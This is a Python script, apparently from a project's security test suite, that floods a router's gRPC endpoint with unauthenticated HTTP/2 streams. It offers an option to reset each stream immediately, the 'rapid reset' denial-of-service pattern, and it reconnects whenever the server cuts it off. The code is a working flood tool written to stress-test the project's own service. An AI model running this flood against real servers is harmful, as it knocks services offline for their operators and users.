"""Opens gRPC calls without a key on a router's port as fast as it can, and connects again when it is cut off.

Prints `begun` after the first calls, and at the end what it did as JSON. Run as a process of its own with the lowest
priority: an attacker's computing happens on machines of his own.
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import json
import os
import select
import socket
import time
from collections import Counter

from tests.security.attacks.grpc_frames import (
    ACKNOWLEDGED,
    DATA,
    END_HEADERS,
    GREETING,
    HEADERS,
    RESET,
    WINDOW_UPDATE,
    call_head,
    frame,
)

CALLS = 500  # of one write
WINDOW = 65535  # bytes of messages on a connection until the server allows more
LAST_STREAM = 1 << 30
# With the server's settings acknowledged only its limit of streams counts.
BEGINNING = GREETING + ACKNOWLEDGED


class Flooder:
    """One connection, opened again whenever it has ended."""

    def __init__(self, given: argparse.Namespace, done: Counter[str]):
        host, _, port = given.address.rpartition(":")
        self._address, self._source, self._done = (host, int(port)), given.source, done
        self._head, self._reset, self._message = call_head(given.path.encode()), given.reset, given.message
        self.sock: socket.socket | None = None

    def connect(self) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((self._source, 0))
        self.sock.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            self.sock.connect(self._address)
        self._rest = memoryview(BEGINNING)
        self._received = b""
        self._window = WINDOW
        self._next = 1
        self._done["connections"] += 1

    def turn(self) -> None:
        assert self.sock is not None
        try:
            with contextlib.suppress(BlockingIOError):
                while got := self.sock.recv(1 << 18):
                    self._done["received"] += len(got)
                    if self._message:
                        self._received = self._read(self._received + got)
                raise ConnectionResetError
            if not self._rest and self._next < LAST_STREAM:
                self._rest = memoryview(b"".join(self._calls()))
            with contextlib.suppress(BlockingIOError):
                self._rest = self._rest[self.sock.send(self._rest) :]
        except OSError as error:
            if error.errno not in (errno.ENOTCONN,):
                self._done[type(error).__name__] += 1
                self.sock.close()
                self.connect()

    def _calls(self) -> list[bytes]:
        frames = []
        number = min(CALLS, self._window // self._message) if self._message else CALLS
        for stream in range(self._next, self._next + 2 * number, 2):
            frames.append(frame(HEADERS, END_HEADERS, stream, self._head))
            if self._message:
                frames.append(frame(DATA, 0, stream, bytes(self._message)))
            if self._reset:
                frames.append(frame(RESET, 0, stream, (8).to_bytes(4, "big")))
        self._window -= number * self._message
        self._next += 2 * number
        self._done["calls"] += number
        return frames

    def _read(self, received: bytes) -> bytes:
        """Count what the server allows; returns the frame that is not complete."""
        while len(received) >= 9 and len(received) >= 9 + (length := int.from_bytes(received[:3], "big")):
            if received[3] == WINDOW_UPDATE and not int.from_bytes(received[5:9], "big"):
                self._window += int.from_bytes(received[9:13], "big")
            received = received[9 + length :]
        return received


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address")
    parser.add_argument("--source", default="127.0.0.1", help="the address to connect from")
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--path", default="/baton.v1.Inference/Generate")
    parser.add_argument("--reset", action="store_true", help="reset each call at once")
    parser.add_argument("--message", type=int, default=0, help="bytes of each call's message, at most 16384")
    given = parser.parse_args()
    os.nice(19)
    done: Counter[str] = Counter()
    flooders = [Flooder(given, done) for _ in range(given.connections)]
    for one in flooders:
        one.connect()
    ends = time.monotonic() + given.seconds
    begun = False
    while time.monotonic() < ends:
        ready = select.poll()
        for one in flooders:
            assert one.sock is not None
            ready.register(one.sock, select.POLLIN | select.POLLOUT)
        ready.poll(50)
        for one in flooders:
            one.turn()
        if not begun and done["calls"]:
            begun = True
            print("begun", flush=True)
    print(json.dumps(done))


if __name__ == "__main__":
    main()
